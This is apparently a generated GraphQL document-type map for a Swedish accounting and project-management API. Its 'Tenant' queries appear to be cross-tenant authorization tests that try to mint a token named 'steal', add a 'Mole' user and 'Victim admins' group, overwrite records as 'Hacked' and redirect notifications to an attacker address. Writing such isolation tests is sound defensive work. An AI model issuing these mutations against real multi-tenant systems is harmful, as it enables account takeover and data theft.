    "\n  mutation RegCreateCostCentre($input: CreateCostCentreInput!) {\n    createCostCentre(input: $input) {\n      __typename\n      ... on MutationCreateCostCentreSuccess { data { id code name active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.RegCreateCostCentreDocument,
    "\n  mutation RegUpdateCostCentre($input: UpdateCostCentreInput!) {\n    updateCostCentre(input: $input) {\n      __typename\n      ... on MutationUpdateCostCentreSuccess { data { id code name active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.RegUpdateCostCentreDocument,
    "query RegCostCentres($includeInactive: Boolean) { costCentres(includeInactive: $includeInactive) { code name active } }": typeof types.RegCostCentresDocument,
    "\n  mutation RegCreateSupplier($input: CreateSupplierInput!) {\n    createSupplier(input: $input) {\n      __typename\n      ... on MutationCreateSupplierSuccess {\n        data {\n          id number name organisationNumber vatNumber address1 address2 postcode city countryCode email phone\n          bankgiro plusgiro iban bic active createdBy\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.RegCreateSupplierDocument,
    "\n  mutation RegUpdateSupplier($input: UpdateSupplierInput!) {\n    updateSupplier(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierSuccess { data { id number name organisationNumber city bankgiro iban bic active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.RegUpdateSupplierDocument,
    "\n  query RegSuppliers($search: String, $filter: SupplierFilter) {\n    suppliers(search: $search, filter: $filter, first: 50) { totalCount edges { node { number name active } } }\n  }\n": typeof types.RegSuppliersDocument,
    "\n  mutation RegCreateTerms($input: CreatePaymentTermInput!) {\n    createPaymentTerm(input: $input) {\n      __typename\n      ... on MutationCreatePaymentTermSuccess { data { id code name days active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.RegCreateTermsDocument,
    "\n  mutation RegUpdateTerms($input: UpdatePaymentTermInput!) {\n    updatePaymentTerm(input: $input) {\n      __typename\n      ... on MutationUpdatePaymentTermSuccess { data { id code name days active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.RegUpdateTermsDocument,
    "\n  mutation RegDeleteTerms($id: ID!) {\n    deletePaymentTerm(id: $id) {\n      __typename\n      ... on MutationDeletePaymentTermSuccess { data }\n      ... on Error { code path message }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.RegDeleteTermsDocument,
    "query RegTerms($includeInactive: Boolean) { paymentTerms(includeInactive: $includeInactive) { id code days active } }": typeof types.RegTermsDocument,
    "\n  mutation RegCustomerWithTerms($paymentTermId: ID!) {\n    createCustomer(input: { name: \"Terms user\", paymentTermId: $paymentTermId }) { __typename ... on MutationCreateCustomerSuccess { data { paymentTerm { code } } } }\n  }\n": typeof types.RegCustomerWithTermsDocument,
    "\n  query RegVouchers($filter: VoucherFilter, $first: Int) {\n    vouchers(filter: $filter, first: $first) {\n      totalCount\n      edges {\n        node {\n          id source remoteId series number transactionDate description\n          rows {\n            rowIndex accountNumber debit credit note\n            account { number name }\n            project { number }\n            workOrder { number reference }\n            changeOrder { code }\n            costCentre { code }\n          }\n        }\n      }\n    }\n  }\n": typeof types.RegVouchersDocument,
    "\n  query RegVoucherNode($id: ID!) { node(id: $id) { id ... on Voucher { remoteId rows { rowIndex debit } } } }\n": typeof types.RegVoucherNodeDocument,
    "\n  query RegLedger($id: ID!) {\n    node(id: $id) {\n      id\n      ... on Project {\n        number\n        costLedger {\n          byAccount { accountNumber accountName accountKind debit credit net }\n          byPart { workOrder { number reference } changeOrder { code reference } debit credit net }\n          total { debit credit net }\n        }\n      }\n    }\n  }\n": typeof types.RegLedgerDocument,
    "\n  query RegLedgerPage($first: Int!) {\n    projects(first: $first) {\n      edges {\n        node {\n          id number\n          costLedger {\n            byAccount { accountNumber accountName net }\n            byPart { workOrder { id number reference } changeOrder { id code } net }\n            total { debit credit net }\n          }\n        }\n      }\n    }\n  }\n": typeof types.RegLedgerPageDocument,
    "mutation RevAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }": typeof types.RevAccountDocument,
    "\n  mutation RevCostCentre { createCostCentre(input: { code: \"KS1\", name: \"Stockholm\" }) { __typename ... on MutationCreateCostCentreSuccess { data { id } } } }\n": typeof types.RevCostCentreDocument,
    "mutation RevSettings { updateCompanySettings(input: { vatNumber: \"SE556036079301\" }) { __typename } }": typeof types.RevSettingsDocument,
    "\n  mutation RevCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id category contacts(first: 5) { edges { node { id } } } } } }\n  }\n": typeof types.RevCustomerDocument,
    "query RevCustomers($filter: CustomerFilter) { customers(filter: $filter, first: 50) { edges { node { name category } } } }": typeof types.RevCustomersDocument,
    "\n  mutation RevProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } } }\n": typeof types.RevProjectDocument,
    "\n  mutation RevWorkOrder($projectId: ID!, $name: String!) { createWorkOrder(projectId: $projectId, input: { name: $name }) { __typename ... on MutationCreateWorkOrderSuccess { data { id number } } } }\n": typeof types.RevWorkOrderDocument,
    "\n  mutation RevChangeOrder($projectId: ID!) { createChangeOrder(projectId: $projectId, input: { name: \"Extra fönster\" }) { __typename ... on MutationCreateChangeOrderSuccess { data { id number } } } }\n": typeof types.RevChangeOrderDocument,
    "\n  query RevSetup { revenueAccountingSettings { active activatedAt dimensions { number meaning name included mandatory } postingRules { position isDefault accountNumber constructionVat customerCategory costAccounts lineKind vatRate taxReductionType } } }\n": typeof types.RevSetupDocument,
    "\n  mutation RevActivate($input: RevenueAccountingSettingsInput!) {\n    updateRevenueAccountingSettings(input: $input) {\n      __typename\n      ... on MutationUpdateRevenueAccountingSettingsSuccess { data { active dimensions { number included mandatory name } } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.RevActivateDocument,
    "\n  mutation RevRules($rules: [PostingRuleInput!]!) {\n    setRevenuePostingRules(rules: $rules) {\n      __typename\n      ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { position isDefault accountNumber } } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.RevRulesDocument,
    "\n  mutation RevInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess {\n        data {\n          id number subtotal\n          lines { id amount kind revenueLines { id accountNumber amount project { id } workOrder { id } costCentre { id } setByHand } }\n          revenueLines { id accountNumber amount isBalancePosting }\n          accountingBasis { id sortOrder description quantity unit unitPrice amount vatRate accountNumber kind reductionType workType hours reductionAmount line { id } }\n        }\n      }\n      ... on Error { code message }\n    }\n  }\n": typeof types.RevInvoiceDocument,
    "\n  query RevRead($id: ID!) {\n    invoice(id: $id) {\n      id subtotal isCredit\n      lines { id amount revenueLines { id accountNumber amount workOrder { id } changeOrder { id } setByHand } }\n      revenueLines { id accountNumber amount isBalancePosting kind line { id } }\n      revenueAccounting { accountNumber kind amount workOrder { id } changeOrder { id } project { id } costCentre { id } revenueLines { id line { id } } }\n      accountingBasis { id description quantity amount accountNumber kind workType hours reductionAmount reductionType workOrder { id } }\n    }\n  }\n": typeof types.RevReadDocument,
    "\n  mutation RevUpdateInvoice($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) { __typename ... on MutationUpdateInvoiceSuccess { revenueAccountingReset data { contractorVat } } ... on Error { code } }\n  }\n": typeof types.RevUpdateInvoiceDocument,
    "\n  mutation RevAddLine($invoiceId: ID!, $input: InvoiceLineInput!) {\n    addInvoiceLine(invoiceId: $invoiceId, input: $input) { __typename ... on MutationAddInvoiceLineSuccess { data { id revenueLines { accountNumber amount } } } }\n  }\n": typeof types.RevAddLineDocument,
    "\n  mutation RevUpdateLine($id: ID!, $input: InvoiceLineInput!) {\n    updateInvoiceLine(id: $id, input: $input) { __typename ... on MutationUpdateInvoiceLineSuccess { data { amount revenueLines { accountNumber amount } } } }\n  }\n": typeof types.RevUpdateLineDocument,
    "\n  mutation RevEditRevenue($id: ID!, $input: RevenueLineInput!) {\n    updateInvoiceRevenueLine(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceRevenueLineSuccess { data { accountNumber workOrder { id } setByHand } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission message }\n      ... on Error { code message }\n    }\n  }\n": typeof types.RevEditRevenueDocument,
    "\n  mutation RevSplit($lineId: ID!, $parts: [RevenueSplitPartInput!]!) {\n    splitInvoiceLineRevenue(lineId: $lineId, parts: $parts) {\n      __typename\n      ... on MutationSplitInvoiceLineRevenueSuccess { data { revenueLines { amount accountNumber workOrder { id } changeOrder { id } } } }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n      ... on Error { code }\n    }\n  }\n": typeof types.RevSplitDocument,
    "\n  mutation RevBalance($invoiceId: ID!, $input: BalancePostingInput!) {\n    addBalancePosting(invoiceId: $invoiceId, input: $input) {\n      __typename\n      ... on MutationAddBalancePostingSuccess { data { id isBalancePosting accountNumber amount } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n      ... on Error { code }\n    }\n  }\n": typeof types.RevBalanceDocument,
    "mutation RevRemoveBalance($id: ID!) { removeBalancePosting(id: $id) { __typename ... on Error { code } } }": typeof types.RevRemoveBalanceDocument,
    "mutation RevReset($invoiceId: ID!) { resetInvoiceRevenueAccounting(invoiceId: $invoiceId) { __typename ... on Error { code } } }": typeof types.RevResetDocument,
    "\n  mutation RevBasisRow($id: ID!, $input: AccountingBasisRowInput!) {\n    updateAccountingBasisRow(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateAccountingBasisRowSuccess { data { workType hours reductionAmount amount setByHand } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.RevBasisRowDocument,
    "\n  mutation RevRebuild($invoiceId: ID!) {\n    rebuildAccountingBasis(invoiceId: $invoiceId) {\n      __typename\n      ... on MutationRebuildAccountingBasisSuccess { data { accountingBasis { amount workType hours reductionAmount kind } } }\n      ... on Error { code }\n    }\n  }\n": typeof types.RevRebuildDocument,
    "\n  mutation RevBuyers($invoiceId: ID!, $contactId: ID!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on MutationSetInvoiceBuyersSuccess { data { taxReductionAmount } } } }\n": typeof types.RevBuyersDocument,
    "\n  mutation RevWorkTypes($lineId: ID!, $workTypes: [WorkTypePartInput!]!) { setInvoiceLineWorkTypes(lineId: $lineId, workTypes: $workTypes) { __typename } }\n": typeof types.RevWorkTypesDocument,
    "\n  mutation RevLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } ... on Error { code } }\n  }\n": typeof types.RevLockDocument,
    "mutation RevUnlock($id: ID!) { unlockInvoice(id: $id) { __typename } }": typeof types.RevUnlockDocument,
    "\n  mutation RevCredit($id: ID!) {\n    creditInvoice(id: $id, reason: \"Fel pris\") {\n      __typename\n      ... on MutationCreditInvoiceSuccess { data { id subtotal revenueLines { accountNumber amount isBalancePosting } accountingBasis { amount quantity accountNumber reductionAmount } } }\n      ... on Error { code message path }\n    }\n  }\n": typeof types.RevCreditDocument,
    "query RevNoPermission($id: ID!) { invoice(id: $id) { id revenueLines { id } } }": typeof types.RevNoPermissionDocument,
    "\n  mutation SerCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n": typeof types.SerCustomerDocument,
    "\n  mutation SerProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } ... on Error { code message } }\n  }\n": typeof types.SerProjectDocument,
    "mutation SerAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }": typeof types.SerAccountDocument,
    "\n  mutation SerRules($rules: [PostingRuleInput!]!) {\n    setRevenuePostingRules(rules: $rules) { __typename ... on Error { code message } }\n  }\n": typeof types.SerRulesDocument,
    "\n  mutation ImpSie($file: File!, $mode: SieImportMode, $options: SieImportOptions) {\n    importSie(file: $file, mode: $mode, options: $options) {\n      __typename\n      ... on MutationImportSieSuccess {\n        data {\n          mode committed message encoding program sieType\n          accounts { total created updated unchanged skipped errors }\n          costCentres { total created updated unchanged skipped errors }\n          vouchers { total created updated unchanged skipped errors }\n          warnings { line code message }\n          items { kind line key name outcome errors { line code message } notes { line code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.ImpSieDocument,
    "\n  mutation SieCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n": typeof types.SieCustomerDocument,
    "\n  mutation SieProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } } }\n": typeof types.SieProjectDocument,
    "\n  mutation SiCreate($input: CreateSupplierInvoiceInput!) {\n    createSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationCreateSupplierInvoiceSuccess {\n        data {\n          id invoiceNumber invoiceDate dueDate currency net vat total ocr status approvalsRequired disputed externalNumber bookkept createdBy\n          supplierNumber supplierName\n          document { fileName contentType size url }\n          rows { id position accountNumber amount vatRate projectNumber description costCentreCode }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.SiCreateDocument,
    "\n  mutation SiUpdate($input: UpdateSupplierInvoiceInput!) {\n    updateSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierInvoiceSuccess { data { id net vat total ocr dueDate status approvals { signature } document { fileName } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.SiUpdateDocument,
    "\n  mutation SiAddRow($input: AddSupplierInvoiceRowInput!) {\n    addSupplierInvoiceRow(input: $input) {\n      __typename\n      ... on MutationAddSupplierInvoiceRowSuccess { data { id approvals { signature } rows { id accountNumber amount projectNumber } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.SiAddRowDocument,
    "\n  mutation SiUpdateRow($input: UpdateSupplierInvoiceRowInput!) {\n    updateSupplierInvoiceRow(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierInvoiceRowSuccess { data { id rows { id amount vatRate description } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.SiUpdateRowDocument,
    "\n  mutation SiRemoveRow($id: ID!) {\n    removeSupplierInvoiceRow(id: $id) {\n      __typename\n      ... on MutationRemoveSupplierInvoiceRowSuccess { data { id rows { id } } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.SiRemoveRowDocument,
    "\n  mutation SiApprove($id: ID!) {\n    approveSupplierInvoice(id: $id) {\n      __typename\n      ... on MutationApproveSupplierInvoiceSuccess { data { id status approvedAt approvals { name signature approvedAt } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.SiApproveDocument,
    "\n  mutation SiDispute($id: ID!, $reason: String!) {\n    disputeSupplierInvoice(id: $id, reason: $reason) {\n      __typename\n      ... on MutationDisputeSupplierInvoiceSuccess { data { id disputed disputeReason disputedAt } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.SiDisputeDocument,
    "\n  mutation SiUndispute($id: ID!) {\n    undisputeSupplierInvoice(id: $id) {\n      __typename\n      ... on MutationUndisputeSupplierInvoiceSuccess { data { id disputed disputeReason } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.SiUndisputeDocument,
    "\n  query SiList($search: String, $filter: SupplierInvoiceFilter) {\n    supplierInvoices(first: 50, search: $search, filter: $filter) { totalCount edges { node { id invoiceNumber status disputed } } }\n  }\n": typeof types.SiListDocument,
    "query SiNode($id: ID!) { node(id: $id) { id ... on SupplierInvoice { invoiceNumber status } } }": typeof types.SiNodeDocument,
    "query SiVoucherFiles { vouchers(first: 10) { edges { node { remoteId files { id fileName contentType size url } } } } }": typeof types.SiVoucherFilesDocument,
    "\n  mutation TenantSeed($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id } } } } }\n      ... on Error { message }\n    }\n  }\n": typeof types.TenantSeedDocument,
    "\n  mutation TenantSeedField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) { __typename ... on MutationCreateCustomFieldDefinitionSuccess { data { id } } }\n  }\n": typeof types.TenantSeedFieldDocument,
    "\n  mutation TenantSeedGroup($input: CreateGroupInput!) {\n    createGroup(input: $input) { __typename ... on MutationCreateGroupSuccess { data { id } } }\n  }\n": typeof types.TenantSeedGroupDocument,
    "\n  mutation TenantSeedUser($input: CreateUserInput!) {\n    createUser(input: $input) { __typename ... on MutationCreateUserSuccess { data { id } } }\n  }\n": typeof types.TenantSeedUserDocument,
    "\n  mutation TenantSeedToken($input: CreateApiTokenInput!) {\n    createApiToken(input: $input) { __typename ... on MutationCreateApiTokenSuccess { data { apiToken { id } } } }\n  }\n": typeof types.TenantSeedTokenDocument,
    "\n  query TenantSeedTerms { paymentTerms { id } me { id } }\n": typeof types.TenantSeedTermsDocument,
    "query TenantApiTokens { apiTokens(includeRevoked: true) { id name tokenPrefix user { id name } } }": typeof types.TenantApiTokensDocument,
    "query TenantCompany { company { id name } }": typeof types.TenantCompanyDocument,
    "query TenantFieldDefs { customFieldDefinitions(includeInactive: true) { id key label } }": typeof types.TenantFieldDefsDocument,
    "query TenantCustomer($id: ID!) { customer(id: $id) { id name } }": typeof types.TenantCustomerDocument,
    "query TenantCustomerByNumber($number: String!) { customerByNumber(number: $number) { id name } }": typeof types.TenantCustomerByNumberDocument,
    "query TenantCustomers($search: String) { customers(search: $search, first: 200) { totalCount edges { node { id name email contacts(first: 5) { edges { node { id name } } } } } } }": typeof types.TenantCustomersDocument,
    "query TenantGroups { groups { id name members { id name } } }": typeof types.TenantGroupsDocument,
    "query TenantMe { me { id name email } }": typeof types.TenantMeDocument,
    "query TenantNode($id: ID!) { node(id: $id) { id ... on Customer { name } ... on Contact { name } ... on User { name email } } }": typeof types.TenantNodeDocument,
    "query TenantNodes($ids: [ID!]!) { nodes(ids: $ids) { id } }": typeof types.TenantNodesDocument,
    "query TenantPaymentTerms { paymentTerms(includeInactive: true) { id code } }": typeof types.TenantPaymentTermsDocument,
    "query TenantPermissions { permissions { permission description } }": typeof types.TenantPermissionsDocument,
    "query TenantUsers { users(first: 100, includeInactive: true) { edges { node { id name email } } } }": typeof types.TenantUsersDocument,
    "mutation TenantActivate($id: ID!) { activateCustomer(id: $id) { __typename ... on Error { code } ... on MutationActivateCustomerSuccess { data { id name } } } }": typeof types.TenantActivateDocument,
    "mutation TenantAddContact($customerId: ID!) { addContact(customerId: $customerId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationAddContactSuccess { data { id customer { name } } } } }": typeof types.TenantAddContactDocument,
    "mutation TenantAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename ... on Error { code } ... on MutationAssignCustomerSuccess { data { id assignedUser { name } } } } }": typeof types.TenantAssignDocument,
    "mutation TenantChangeNumber($id: ID!) { changeCustomerNumber(id: $id, number: \"666\") { __typename ... on Error { code } ... on MutationChangeCustomerNumberSuccess { data { id name } } } }": typeof types.TenantChangeNumberDocument,
    "mutation TenantCopy($customerId: ID!) { copyCustomerToContact(customerId: $customerId) { __typename ... on Error { code } ... on MutationCopyCustomerToContactSuccess { data { id name } } } }": typeof types.TenantCopyDocument,
    "mutation TenantCreateToken($userId: ID) { createApiToken(input: { name: \"steal\", userId: $userId }) { __typename ... on Error { code } ... on MutationCreateApiTokenSuccess { data { token apiToken { user { name } } } } } }": typeof types.TenantCreateTokenDocument,
    "mutation TenantCreateField { createCustomFieldDefinition(input: { key: \"secretField\", label: \"x\", type: TEXT }) { __typename ... on Error { code } ... on MutationCreateCustomFieldDefinitionSuccess { data { id } } } }": typeof types.TenantCreateFieldDocument,
    "mutation TenantCreateCustomer($paymentTermId: ID, $assignedUserId: ID) { createCustomer(input: { name: \"Intruder\", number: \"B-777\", paymentTermId: $paymentTermId, assignedUserId: $assignedUserId }) { __typename ... on Error { code } ... on ValidationError { issues { path code } } ... on MutationCreateCustomerSuccess { data { id paymentTerm { id } assignedUser { id } } } } }": typeof types.TenantCreateCustomerDocument,
    "mutation TenantCreateGroup { createGroup(input: { name: \"Victim admins\", permissions: [ADMIN_USERS] }) { __typename ... on Error { code } ... on MutationCreateGroupSuccess { data { id members { name } } } } }": typeof types.TenantCreateGroupDocument,
    "mutation TenantCreateUser($groupIds: [ID!]) { createUser(input: { name: \"Mole\", email: \"mole@a.se\", signature: \"MOLE\", groupIds: $groupIds }) { __typename ... on Error { code } ... on MutationCreateUserSuccess { data { id groups { name } } } } }": typeof types.TenantCreateUserDocument,
    "mutation TenantDeleteField($id: ID!) { deleteCustomFieldDefinition(id: $id) { __typename ... on Error { code } } }": typeof types.TenantDeleteFieldDocument,
    "mutation TenantDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code } } }": typeof types.TenantDeleteCustomerDocument,
    "mutation TenantDeleteGroup($id: ID!) { deleteGroup(id: $id) { __typename ... on Error { code } } }": typeof types.TenantDeleteGroupDocument,
    "mutation TenantInactivate($id: ID!) { inactivateCustomer(id: $id) { __typename ... on Error { code } ... on MutationInactivateCustomerSuccess { data { id name } } } }": typeof types.TenantInactivateDocument,
    "mutation TenantRemoveContact($id: ID!) { removeContact(id: $id) { __typename ... on Error { code } } }": typeof types.TenantRemoveContactDocument,
    "mutation TenantRevoke($id: ID!) { revokeApiToken(id: $id) { __typename ... on Error { code } ... on MutationRevokeApiTokenSuccess { data { id name } } } }": typeof types.TenantRevokeDocument,
    "mutation TenantSettings { updateCompanySettings(input: { name: \"Renamed A\" }) { __typename ... on Error { code } ... on MutationUpdateCompanySettingsSuccess { data { id name } } } }": typeof types.TenantSettingsDocument,
    "mutation TenantUpdateContact($id: ID!) { updateContact(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateContactSuccess { data { id name } } } }": typeof types.TenantUpdateContactDocument,
    "mutation TenantUpdateField($id: ID!) { updateCustomFieldDefinition(input: { id: $id, label: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCustomFieldDefinitionSuccess { data { id label } } } }": typeof types.TenantUpdateFieldDocument,
    "mutation TenantUpdateCustomer($id: ID!) { updateCustomer(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCustomerSuccess { data { id name } } } }": typeof types.TenantUpdateCustomerDocument,
    "mutation TenantUpdateGroup($id: ID!) { updateGroup(input: { id: $id, name: \"Hacked\", permissions: [] }) { __typename ... on Error { code } ... on MutationUpdateGroupSuccess { data { id } } } }": typeof types.TenantUpdateGroupDocument,
    "mutation TenantUpdateUser($id: ID!, $groupIds: [ID!]) { updateUser(input: { id: $id, name: \"Hacked\", active: false, groupIds: $groupIds }) { __typename ... on Error { code } ... on MutationUpdateUserSuccess { data { id name } } } }": typeof types.TenantUpdateUserDocument,
    "\n    query TenantCustomerPortal {\n      customerPortal {\n        number\n        name\n        invoices(first: 10) { totalCount edges { node { number pdfUrl } } }\n        projects(first: 10) { totalCount edges { node { number name } } }\n        documents(first: 10) { totalCount edges { node { name url } } }\n        documentFolders { id name }\n      }\n    }\n  ": typeof types.TenantCustomerPortalDocument,
    "\n    mutation TenantInviteCustomerUser($customerId: ID!) {\n      inviteCustomerUser(customerId: $customerId, email: \"intruder@a.example\", rights: [INVOICES]) { __typename ... on Error { code } }\n    }\n  ": typeof types.TenantInviteCustomerUserDocument,
    "\n    mutation TenantSetCustomerUserRights($userId: ID!) {\n      setCustomerUserRights(userId: $userId, rights: [INVOICES, PROJECTS, DOCUMENTS]) { __typename ... on Error { code } }\n    }\n  ": typeof types.TenantSetCustomerUserRightsDocument,
    "mutation TenantDeleteCustomerUser($userId: ID!) { deleteCustomerUser(userId: $userId) { __typename ... on Error { code } } }": typeof types.TenantDeleteCustomerUserDocument,
    "\n    query TenantDocumentNodes($doc: ID!, $folder: ID!, $customer: ID!) {\n      doc: node(id: $doc) { id ... on Document { name url } }\n      folder: node(id: $folder) { id ... on DocumentFolder { name } }\n      customer(id: $customer) { id documents(first: 10) { edges { node { id name } } } documentFolders { id name } }\n    }\n  ": typeof types.TenantDocumentNodesDocument,
    "\n    mutation TenantUploadCustomerDocument($input: UploadCustomerDocumentInput!) {\n      uploadCustomerDocument(input: $input) { __typename ... on Error { code } ... on MutationUploadCustomerDocumentSuccess { data { id name folder { name } } } }\n    }\n  ": typeof types.TenantUploadCustomerDocumentDocument,
    "\n    mutation TenantUploadProjectDocument($input: UploadProjectDocumentInput!) {\n      uploadProjectDocument(input: $input) { __typename ... on Error { code } ... on MutationUploadProjectDocumentSuccess { data { id name } } }\n    }\n  ": typeof types.TenantUploadProjectDocumentDocument,
    "mutation TenantDeleteDocument($id: ID!) { deleteDocument(id: $id) { __typename ... on Error { code } ... on MutationDeleteDocumentSuccess { data } } }": typeof types.TenantDeleteDocumentDocument,
    "\n    mutation TenantCreateCustomerDocumentFolder($customerId: ID!) {\n      createCustomerDocumentFolder(input: { customerId: $customerId, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateCustomerDocumentFolderSuccess { data { id } } }\n    }\n  ": typeof types.TenantCreateCustomerDocumentFolderDocument,
    "\n    mutation TenantCreateProjectDocumentFolder($projectId: ID!) {\n      createProjectDocumentFolder(input: { projectId: $projectId, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateProjectDocumentFolderSuccess { data { id } } }\n    }\n  ": typeof types.TenantCreateProjectDocumentFolderDocument,
    "\n    mutation TenantRenameDocumentFolder($id: ID!) {\n      renameDocumentFolder(input: { id: $id, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationRenameDocumentFolderSuccess { data { id name } } }\n    }\n  ": typeof types.TenantRenameDocumentFolderDocument,
    "mutation TenantDeleteDocumentFolder($id: ID!) { deleteDocumentFolder(id: $id) { __typename ... on Error { code } ... on MutationDeleteDocumentFolderSuccess { data } } }": typeof types.TenantDeleteDocumentFolderDocument,
    "\n  mutation ImpTenantCustomers($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { committed totalRows rows { row outcome customerNumber name id changes { field from to } errors { column code message } } } }\n      ... on Error { code message }\n    }\n  }\n": typeof types.ImpTenantCustomersDocument,
    "\n  mutation ImpTenantContacts($file: File!, $mode: ImportMode) {\n    importContacts(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportContactsSuccess { data { committed totalRows rows { row outcome customerNumber name id changes { field from to } errors { column code message } } } }\n      ... on Error { code message }\n    }\n  }\n": typeof types.ImpTenantContactsDocument,
    "\n  mutation TenantIntSeedConnection {\n    createConnection(input: { connectorId: \"template\", name: \"Victim Ledger Conn\", sandbox: true, settings: { baseUrl: \"http://127.0.0.1:9/victim-ledger\" }, credentials: { apiKey: \"victim-api-key\" }, notificationEmails: [\"victim-int@victim.se\"] }) {\n      __typename ... on MutationCreateConnectionSuccess { data { id } }\n    }\n  }\n": typeof types.TenantIntSeedConnectionDocument,
    "query TenantConnectors { connectors { id flows { id } } }": typeof types.TenantConnectorsDocument,
    "query TenantConnectionFiles($id: ID!) { connectionFiles(connectionId: $id, first: 10) { edges { node { id name url sha256 } } } }": typeof types.TenantConnectionFilesDocument,
    "\n    query TenantConnections {\n      connections { id name settings notificationEmails runs(first: 10) { edges { node { id error failures { id reference message } } } } }\n    }\n  ": typeof types.TenantConnectionsDocument,
    "mutation TenantCreateConnection { createConnection(input: { connectorId: \"template\", name: \"Intruder Conn\", settings: { baseUrl: \"http://127.0.0.1:9/a\" } }) { __typename ... on Error { code } ... on MutationCreateConnectionSuccess { data { id name } } } }": typeof types.TenantCreateConnectionDocument,
    "mutation TenantUpdateConnection($id: ID!) { updateConnection(input: { id: $id, name: \"Hacked\", active: false, notificationEmails: [\"x@attacker.se\"] }) { __typename ... on Error { code } ... on MutationUpdateConnectionSuccess { data { id name } } } }": typeof types.TenantUpdateConnectionDocument,
    "mutation TenantDeleteConnection($id: ID!) { deleteConnection(id: $id) { __typename ... on Error { code } } }": typeof types.TenantDeleteConnectionDocument,
    "mutation TenantResumeConnection($id: ID!) { resumeConnection(id: $id) { __typename ... on Error { code } ... on MutationResumeConnectionSuccess { data { id } } } }": typeof types.TenantResumeConnectionDocument,
    "mutation TenantSetConnectionFlow($id: ID!) { setConnectionFlowEnabled(id: $id, flowId: \"project-part-export\", enabled: true) { __typename ... on Error { code } } }": typeof types.TenantSetConnectionFlowDocument,
    "mutation TenantConnectionAuthorizeUrl($id: ID!) { connectionAuthorizeUrl(id: $id, redirectUri: \"http://localhost/cb\", state: \"state-123456\") { __typename ... on Error { code } ... on MutationConnectionAuthorizeUrlSuccess { data } } }": typeof types.TenantConnectionAuthorizeUrlDocument,
